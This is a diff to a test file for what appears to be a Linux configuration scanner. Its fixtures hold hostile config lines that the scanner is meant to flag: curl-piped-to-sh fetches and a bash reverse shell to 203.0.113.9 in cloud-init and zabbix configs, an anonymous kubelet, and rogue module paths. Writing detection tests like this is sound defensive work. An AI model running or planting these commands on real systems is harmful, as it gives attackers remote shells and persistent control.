@@ -35,6 +35,21 @@ describe('services left open', () => {
 		['/etc/php/8.2/fpm/conf.d/99.ini', 'auto_prepend_file = /dev/shm/.p\n', 'high'],
 		['/etc/zabbix/zabbix_agentd.d/x.conf', 'UserParameter=x,sh -c "curl -s 203.0.113.9/k|sh"\n', 'high'],
 		['/etc/audit/plugins.d/x.conf', 'path = /var/tmp/.a\n', 'high'],
+		['/etc/dbus-1/system.d/zz.conf', '<busconfig><policy context="default"><allow own="*"/></policy></busconfig>\n', 'high'],
+		['/var/lib/kubelet/config.yaml', 'authentication:\n  anonymous:\n    enabled: true\nauthorization:\n  mode: AlwaysAllow\n', 'high'],
+		['/etc/cloud/cloud.cfg.d/95-net.cfg', '#cloud-config\nbootcmd:\n  - curl -s http://203.0.113.9/k | sh\n', 'high'],
+		['/var/lib/cloud/seed/nocloud/user-data', '#cloud-config\nruncmd:\n  - [ sh, -c, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" ]\n', 'critical'],
+		['/etc/dracut.conf.d/x.conf', 'install_items+=" /usr/lib/.init "\n', 'high'],
+		['/etc/gss/mech.d/x.conf', 'x 1.2.3.4 /var/lib/misc/.gss.so\n', 'high'],
+		['/etc/pkcs11/modules/x.module', 'module: /var/tmp/p11.so\n', 'high'],
+		['/usr/lib/x86_64-linux-gnu/gconv/gconv-modules.d/x.conf', 'module\tX//\tINTERNAL\t../../../../../tmp/x\t1\n', 'high'],
+		['/etc/docker/daemon.json', '{"runtimes":{"r":{"path":"/var/lib/docker/.runc"}}}\n', 'high'],
+		['/usr/share/containers/oci/hooks.d/x.json', '{"hook":{"path":"/var/lib/.h/run"}}\n', 'high'],
+		['/etc/wgetrc', 'http_proxy = http://203.0.113.9:3128/\n', 'medium'],
+		['/root/.curlrc', 'proxy = "http://203.0.113.9:3128"\ninsecure\n', 'medium'],
+		['/etc/pip.conf', '[global]\nindex-url = http://203.0.113.9/simple\n', 'medium'],
+		['/etc/fail2ban/jail.d/x.conf', '[DEFAULT]\nignoreip = 127.0.0.1/8 0.0.0.0/0\n', 'medium'],
+		['/etc/iptables/rules.v4', '*filter\n-A OUTPUT -p udp --dport 514 -j DROP\n', 'medium'],
 	])('%s', (path, text, severity) => {
 		expect(loud({ [path]: text })).toEqual([`${severity} ${path}`]);
 	});
